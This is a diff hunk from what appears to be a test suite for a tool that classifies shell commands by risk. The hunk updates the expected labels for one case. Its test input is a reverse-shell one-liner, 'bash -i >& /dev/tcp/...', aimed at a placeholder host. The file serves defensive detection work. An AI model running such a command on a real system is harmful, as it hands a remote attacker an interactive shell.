@@ -167,13 +167,7 @@ describe('connections of the shell itself', () => {
     [
       'a shell joined to one',
       'bash -i >& /dev/tcp/x.example/80 0>&1',
-      [
-        'connect:tunnel x.example:80',
-        'execute:download standard input as shell',
-        'unknown: runs text from standard input as shell',
-        'execute:remote-shell a shell joined to the network',
-        'send:data /dev/tcp',
-      ],
+      ['connect:tunnel x.example:80', 'execute:arbitrary bash', 'execute:remote-shell a shell joined to the network', 'send:data /dev/tcp'],
     ],
     [
       'both ways',
